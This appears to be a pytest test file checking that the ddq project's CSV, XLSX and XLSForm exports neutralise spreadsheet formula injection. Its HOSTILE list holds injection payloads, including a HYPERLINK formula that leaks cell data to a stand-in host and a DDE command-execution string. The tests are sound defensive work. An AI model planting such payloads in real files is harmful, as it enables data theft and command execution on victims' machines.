"""Every spreadsheet and CSV file ddq writes: no cell runs as a formula, whatever separator a program splits on;
text is written as text and comes back unchanged; numbers stay numbers."""

import csv
import dataclasses
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ddq.core.cells import FORMULA_SIGNS, csv_text, formula_like
from ddq.core.definitions import Scope, Text, load_library
from ddq.importers.frame import import_template, write_definition
from ddq.importers.intake import open_template
from ddq.importers.offline import read_offline, write_offline
from ddq.importers.xlsform_export import export_xlsform
from ddq.reporting.export import to_csv, to_xlsx
from ddq.store.models import Answer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "X;=1+1",
    "X,=1+1",
    "X\t=1+1",
    "X|=1+1",
    "X; =1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth =
    "#N/A",  # text, not an error value
]

#: Labels that a definition can hold (the definition reader trims surrounding whitespace).
DEFINITION_TEXTS = ['=HYPERLINK("http://evil.example","Open")', "+1", "-1+1", "@SUM(1)", "X;=1+1", "\uff1d1"]


# --- what the checks look for ------------------------------------------------------------------------


def _starts_formula(piece: str) -> bool:
    piece = piece.lstrip(" ")
    return bool(piece) and piece[0] in FORMULA_SIGNS


def assert_csv_inert(text: str, columns: list[str] | None = None) -> list[dict[str, str]]:
    """Neither a CSV reader nor a program splitting lines on , ; tab or | finds a field starting a formula."""
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for column, field in row.items():
            if columns is not None and column not in columns:
                continue
            for piece in re.split(r"[,;\t|\r\n]", field):
                assert not _starts_formula(piece), (column, field)
    for line in text.lstrip("\ufeff").splitlines():  # a program that ignores the quoting
        for piece in re.split(r"[,;\t|]", line):
            piece = piece.lstrip(' "')
            assert not _starts_formula(piece) or re.fullmatch(r"-?\d+(\.\d+)?", piece), (line, piece)
    return rows


def workbook_cells(data: bytes):
    """Every cell of every sheet; and no formula anywhere in the file's XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.search(rb"<(\w+:)?f[ >]", archive.read(name)) is None, name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type in {"f", "e"}]
    for cell in cells:
        if formula_like(cell.value):  # a program that edits the cell keeps it text
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    return cells


# --- the rule ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE[:-1])
def test_every_field_start_is_neutralised_in_csv(value):
    safe = csv_text(value)
    assert safe.startswith("'") or not _starts_formula(value)
    for piece in re.split(r"[,;\t|\r\n]", safe):
        assert not _starts_formula(piece), (value, safe)
    assert safe.replace("'", "") == value.replace("'", "")  # only quotes were added


def test_plain_text_and_numbers_are_left_alone():
    for value in ("Plain text", "a - b", "2024-05-01", "Yes, we do", "e-mail", -2.5, 3, None, True):
        assert csv_text(value) == value


# --- the exports (portfolio, burden ledger) ---------------------------------------------------------


def frame():
    return pd.DataFrame({"partner": HOSTILE, "minutes": [-2.5] * len(HOSTILE), "=cost": range(len(HOSTILE))})


def test_csv_export_is_inert_in_every_field():
    rows = assert_csv_inert(to_csv(frame()).decode("utf-8-sig"), columns=["partner", "'=cost"])
    assert [row["partner"].replace("'", "") for row in rows] == [value.replace("'", "") for value in HOSTILE]
    assert {row["minutes"] for row in rows} == {"-2.5"}  # numbers stay numbers


def test_xlsx_export_writes_text_as_text_and_keeps_it():
    cells = workbook_cells(to_xlsx(frame()))
    by_column = {}
    for cell in cells:
        by_column.setdefault(cell.column, []).append(cell.value)
    assert by_column[1] == ["partner", *(v.replace("\r", "\n") for v in HOSTILE)]  # as exported, nothing added
    assert by_column[2][1:] == [-2.5] * len(HOSTILE) and by_column[3][0] == "=cost"
    assert all(cell.data_type == "n" for cell in cells if cell.column == 2 and cell.row > 1)


# --- the offline spreadsheet ------------------------------------------------------------------------


def hostile_questionnaire(shipped_library):
    """partner-capacity with hostile texts in every human-text place an export writes."""
    original = shipped_library.questionnaire("partner-capacity")
    texts = iter(DEFINITION_TEXTS * 1000)

    def question(q):
        choices = tuple(dataclasses.replace(c, label=Text.of(en=next(texts))) for c in q.choices)
        return dataclasses.replace(q, text=Text.of(en=next(texts)), help=Text.of(en=next(texts)), choices=choices)

    sections = tuple(
        dataclasses.replace(s, title=Text.of(en=next(texts)), questions=tuple(question(q) for q in s.questions))
        for s in original.sections
    )
    return dataclasses.replace(original, title=Text.of(en=DEFINITION_TEXTS[0]), sections=sections)


def test_offline_spreadsheet_keeps_answers_and_texts_as_text(shipped_library):
    questionnaire = hostile_questionnaire(shipped_library)
    asked = [question for _, question in questionnaire.applicable(Scope())]
    texts = [q for q in asked if q.type in {"short_text", "long_text"}]
    hostile = [value for value in HOSTILE if value == value.strip()]  # the reader trims what is typed
    answers = {
        q.id: Answer(question_id=q.id, value=hostile[i % len(hostile)], comment=hostile[-i % len(hostile)])
        for i, q in enumerate(texts)
    }
    data = write_offline(questionnaire, Scope(), answers, "en")
    values = {cell.value for cell in workbook_cells(data)}
    assert {answer.value for answer in answers.values()} <= values
    assert {answer.comment for answer in answers.values()} <= values
    assert {q.text.get("en") for q in asked} <= values and questionnaire.title.get("en") in values
    # brought back unchanged, the spreadsheet changes nothing (and is not refused for formulas)
    changes, problems = read_offline(open_template("back.xlsx", data), questionnaire, Scope(), answers)
    assert changes == [] and problems == []


# --- the XLSForm export, and back through ddq's importer ---------------------------------------------


def test_xlsform_export_is_inert_and_imports_back_unchanged(shipped_library, library_copy):
    questionnaire = hostile_questionnaire(shipped_library)
    data = export_xlsform(questionnaire)
    cells = workbook_cells(data)
    values = {cell.value for cell in cells}
    assert set(DEFINITION_TEXTS) <= values
    relevant = [cell.value for cell in cells if cell.value and str(cell.value).startswith("${")]
    assert relevant, "the expressions are written as they are"

    result = import_template("hostile.xlsx", data, library_copy, load_library(library_copy), questionnaire_id="back")
    write_definition(result, library_copy)
    back = load_library(library_copy).questionnaire("back")
    assert [q.id for q in back.questions] == [q.id for q in questionnaire.questions]
    for before, after in zip(questionnaire.questions, back.questions, strict=True):
        assert (after.text, after.help, after.show_if) == (before.text, before.help, before.show_if), before.id
        if before.type != "yes_no":  # plain yes/no questions share one list of labels
            assert [c.label for c in after.choices] == [c.label for c in before.choices], before.id
    assert [s.title for s in back.sections] == [s.title for s in questionnaire.sections]


def _csv_text_by_hand(value: str) -> str:
    """The rule of `csv_text` written out position by position: a quote before every field start (the start, or
    after a separator, past spaces) that a formula sign follows."""
    from ddq.core.cells import SEPARATORS

    starts = [0] + [index + 1 for index, char in enumerate(value) if char in SEPARATORS]
    risky = set()
    for start in starts:
        index = start
        while index < len(value) and value[index] == " ":
            index += 1
        if index < len(value) and value[index] in FORMULA_SIGNS:
            risky.add(start)
    return "".join(("'" if index in risky else "") + char for index, char in enumerate(value))


@settings(max_examples=3000, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(",;\t|\r\n =+-@\x00\uff1d\uff0b\uff0d\uff20ab1"))))
def test_the_quick_test_of_csv_text_misses_no_formula(value):
    assert csv_text(value) == _csv_text_by_hand(value)
